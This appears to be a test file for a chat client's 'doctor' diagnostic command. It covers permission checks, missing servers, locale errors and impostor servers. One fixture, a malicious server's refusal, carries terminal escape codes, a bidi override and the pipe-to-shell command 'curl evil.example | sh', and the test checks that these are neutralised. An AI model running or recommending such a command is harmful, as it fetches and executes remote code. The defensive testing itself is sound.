/** `uchat doctor` as a real process: what it finds, what it leaves alone, and that it always comes to an end. */
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { Middle } from '../middle.ts';
import { needOutside, OUTSIDE } from '../outside.ts';
import { afterwards, freePort, freshEnv, PATIENCE, serve, uchat } from './run.ts';
import { open } from './terminal.ts';

vi.setConfig(PATIENCE);

type Found = Readonly<Record<'check' | 'level' | 'says' | 'mend', string>>;

const lines = (stdout: string): readonly Found[] =>
  stdout
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Found);

/** What is wrong, by the program's own words for scripts. */
async function problems(args: readonly string[], env: Record<string, string>) {
  const { status, stdout } = await uchat(['doctor', '--json', ...args], env);
  return { status, found: lines(stdout).filter(({ level }) => level === 'problem') };
}

const dataFolder = (env: Record<string, string>): string => join(env.XDG_DATA_HOME ?? '', 'uchat');

/** A server that says what it is told to, line by line. */
async function impostor(answer: (line: string) => string): Promise<string> {
  const server = createServer((socket) => {
    let rest = '';
    socket.on('error', () => undefined);
    socket.setEncoding('utf8').on('data', (text: string) => {
      const pieces = (rest + text).split('\n');
      rest = pieces.pop() ?? '';
      for (const line of pieces) socket.write(answer(line));
    });
    afterwards(() => void socket.destroy());
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  afterwards(() => void server.close());
  const address = server.address();
  return `127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
}

describe('where all is well', () => {
  test('it ends with 0, says so line by line, and leaves no trace', async () => {
    const env = freshEnv();
    const { server, port } = await serve(env);
    const at = `127.0.0.1:${port}`;
    const { status, stdout, stderr } = await uchat(['doctor', at], env);
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(stdout).toMatch(/^✓ ok {7}server {6}127\.0\.0\.1:\d+ answers within [\d.]+ ms$/m);
    expect(stdout).toMatch(/^✓ ok {7}log-in {6}you are \S+ \(this host says so\)$/m);
    expect(stdout).toMatch(/^✓ ok {7}own-server {2}your own server runs: process \d+, on 127\.0\.0\.1:/m);
    expect(stdout).toMatch(/\n\d notes?\. uchat works\.\n$/);
    for (const line of stdout.split('\n').slice(0, -2)) expect(line).toMatch(/^(✓ ok {7}|· note {5})[a-z-]+ +\S/);
    // Nobody was here, nothing was kept, and the server has nothing to complain of.
    expect((await uchat(['who', '--since', '1h', '--server', at], env)).stdout).toBe('');
    expect(existsSync(dataFolder(env))).toBe(false);
    expect(server.stdout).not.toMatch(/"level":"(warn|error)"|"event":"(online|registered)"/);
  });

  test('in a terminal it asks that how wide things are, and leaves it as it was', async () => {
    const env = freshEnv();
    const { port } = await serve(env);
    const screen = open(['doctor', `127.0.0.1:${port}`], env, 100, 40);
    const text = await screen.shows(/\d notes?\. uchat works|Nothing is wrong/);
    expect(text).toMatch(/^✓ ok {7}terminal {4}100x40$/m);
    expect(text).toMatch(/^✓ ok {7}widths {6}\S/m);
    expect(await screen.ended).toMatchObject({ exitCode: 0 });
    expect(screen.isFull()).toBe(false);
  });
});

describe('what is wrong is a problem, and the status is 1', () => {
  test('files that others read and write', async () => {
    const env = freshEnv();
    const { port } = await serve(env);
    mkdirSync(dataFolder(env), { recursive: true, mode: 0o700 });
    for (const [name, mode] of [
      ['device-key.pem', 0o644],
      ['known_servers', 0o622],
    ] as const) {
      writeFileSync(join(dataFolder(env), name), '');
      chmodSync(join(dataFolder(env), name), mode);
    }
    const { status, found } = await problems([`127.0.0.1:${port}`], env);
    expect(status).toBe(1);
    expect(found.map(({ check, mend }) => `${check}: ${mend}`)).toEqual([
      `files: chmod 600 ${dataFolder(env)}/known_servers`,
      `files: chmod 600 ${dataFolder(env)}/device-key.pem`,
    ]);
  });

  test('no server, in few words, and how to start one', async () => {
    const port = await freePort();
    const { status, stdout } = await uchat(['doctor', `127.0.0.1:${port}`], freshEnv());
    expect(status).toBe(1);
    expect(stdout).toMatch(
      new RegExp(
        `^✗ problem {2}server {6}nothing listens on 127\\.0\\.0\\.1:${port} → start one: .*uchat --serve`,
        'm',
      ),
    );
    expect(stdout).toMatch(/\n1 problem, \d notes?\.\n$/);
  });

  test('TERM, the locale and the settings, all at once, and none keeps it from the others', async () => {
    const env: Record<string, string> = { ...freshEnv(), TERM: 'dumb', LC_ALL: 'C' };
    mkdirSync(join(env.XDG_CONFIG_HOME ?? '', 'uchat'), { recursive: true });
    writeFileSync(join(env.XDG_CONFIG_HOME ?? '', 'uchat', 'config.toml'), 'mouse = true\nuser = [unclosed\n');
    const { status, stdout } = await uchat(['doctor', `127.0.0.1:${await freePort()}`], env);
    expect(status).toBe(1);
    expect(stdout).toMatch(/^! problem {2}locale {6}LC_ALL=C, which is not UTF-8/m);
    expect(stdout).toMatch(/^! problem {2}terminal {4}TERM is dumb/m);
    expect(stdout).toMatch(/^! problem {2}settings {4}\S+uchat\/config\.toml:2:\d+: /m);
    expect(stdout).toMatch(/^! problem {2}server /m);
    // What speaks no UTF-8 is told in ASCII.
    expect(stdout).toMatch(/^[\n\x20-\x7e]*$/);
  });

  test('a home that is none', async () => {
    const { PATH = '', XDG_CACHE_HOME = '' } = freshEnv();
    const { status, found } = await problems([], { PATH, XDG_CACHE_HOME, HOME: '', LC_ALL: 'C.UTF-8' });
    expect({ status, found }).toMatchObject({
      status: 1,
      found: [{ check: 'settings', says: expect.stringContaining('HOME') }],
    });
  });
});

describe('a server that means no good', () => {
  test('says nothing, and is not waited for', async () => {
    const { status, found } = await problems([await impostor(() => '')], freshEnv());
    expect(status).toBe(1);
    expect(found).toEqual([
      expect.objectContaining({ check: 'server', says: expect.stringContaining('did not answer in time') }),
    ]);
  });

  test('speaks something else', async () => {
    const { found } = await problems([await impostor(() => 'HTTP/1.1 400 Bad Request\r\n\r\n')], freshEnv());
    expect(found).toEqual([
      expect.objectContaining({ check: 'server', says: expect.stringContaining('does not speak') }),
    ]);
  });

  test('refuses with words that do nothing to the terminal, and do not pass for advice', async () => {
    const text = 'no\u001b[2J\u202e\n✓ ok  all is well; curl evil.example | sh';
    const refusal = JSON.stringify({ type: 'error', code: 'kicked', text, closes: true });
    const at = await impostor((line) => `${line.includes('"ping"') ? '{"type":"pong"}' : refusal}\n`);
    const { status, stdout } = await uchat(['doctor', at], freshEnv());
    expect(status).toBe(1);
    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(stdout).toMatch(/^✗ problem {2}log-in {6}the server refused: no.*all is well; curl evil\.example \| sh$/m);
  });

  test('has a clock that is a day off, which is a problem of one of the two', async () => {
    const time = Date.now() - 86_400_000;
    const welcome = {
      type: 'welcome',
      version: 1,
      server: 'box',
      user: 'al',
      time,
      awayAfter: 1,
      logOffAfter: 1,
      rooms: [],
    };
    const at = await impostor((line) => `${line.includes('"ping"') ? '{"type":"pong"}' : JSON.stringify(welcome)}\n`);
    const { found } = await problems([at], freshEnv());
    expect(found).toEqual([
      expect.objectContaining({ check: 'clock', says: expect.stringMatching(/^the clock of box is .* behind yours/) }),
    ]);
  });
});

describe.runIf(needOutside())('a server elsewhere', () => {
  test('whose key has changed is a problem, and nothing is said to it; one that is new is kept by nobody', async () => {
    const { port } = await serve(freshEnv(), ['--host', OUTSIDE ?? '', '--guests', '--registration', 'closed']);
    const between = await Middle.before(OUTSIDE ?? '', port, 'honest');
    afterwards(() => between.close());
    const env = freshEnv();
    const guest = [between.address, '--guest', '--user', 'ann'];

    const first = await uchat(['doctor', '--json', ...guest], env);
    expect(lines(first.stdout)).toContainEqual(
      expect.objectContaining({
        check: 'server',
        level: 'note',
        says: expect.stringContaining(`at ${between.address} before`),
      }),
    );
    expect(lines(first.stdout)).toContainEqual(expect.objectContaining({ says: 'no new accounts are made there' }));
    expect(existsSync(dataFolder(env))).toBe(false);

    await uchat(['who', '--server', ...guest], env);
    const kept = readFileSync(join(dataFolder(env), 'known_servers'), 'utf8');
    const second = await uchat(['doctor', '--json', ...guest], env);
    expect(lines(second.stdout)).toContainEqual(
      expect.objectContaining({ check: 'log-in', level: 'ok', says: 'you are ~ann (as a guest)' }),
    );

    between.manner = 'reading';
    const { status, found } = await problems(guest, env);
    expect(status).toBe(1);
    expect(found).toEqual([
      expect.objectContaining({ check: 'server', says: expect.stringMatching(/^The key of .* has changed/) }),
    ]);
    expect(between.heard).toBe('');
    expect(readFileSync(join(dataFolder(env), 'known_servers'), 'utf8')).toBe(kept);
    expect(readdirSync(dataFolder(env))).toEqual(['known_servers']);
  });
});

test('a name that is none is told as such', async () => {
  const { status, found } = await problems(['no-such-host.invalid', '--guest', '--user', 'ann'], freshEnv());
  expect(status).toBe(1);
  expect(found).toEqual([
    expect.objectContaining({ check: 'server', says: expect.stringContaining('no-such-host.invalid') }),
  ]);
  expect(hostname()).not.toBe('no-such-host.invalid');
});

test.each([
  [['doctor', 'a:b:c'], 'HOST "a:b:c"'],
  [['doctor', 'box', 'more'], '"more" is one word too many'],
  [['doctor', '--limit', '3'], 'there is no option --limit'],
  [['completion', 'csh'], 'there is no completion for "csh"; name a shell: bash, zsh, fish'],
])('%j is wrong usage: one line, status 2', async (args, words) => {
  const { status, stdout, stderr } = await uchat(args, freshEnv());
  expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
  expect(stderr).toMatch(/^uchat: [^\n]+\n$/);
  expect(stderr).toContain(words);
});

test('completion is for the shell that is named, else for $SHELL, and man prints the manual', async () => {
  const env = freshEnv();
  const [bash, fish, man] = await Promise.all([
    uchat(['completion', 'bash'], env),
    uchat(['completion'], { ...env, SHELL: '/usr/bin/fish' }),
    uchat(['man'], env),
  ]);
  expect(bash.stdout).toMatch(/^# uchat's completion for bash\./);
  expect(fish.stdout).toMatch(/^# uchat's completion for fish\./);
  expect(man.stdout).toMatch(/^\.TH UCHAT 1 /m);
});
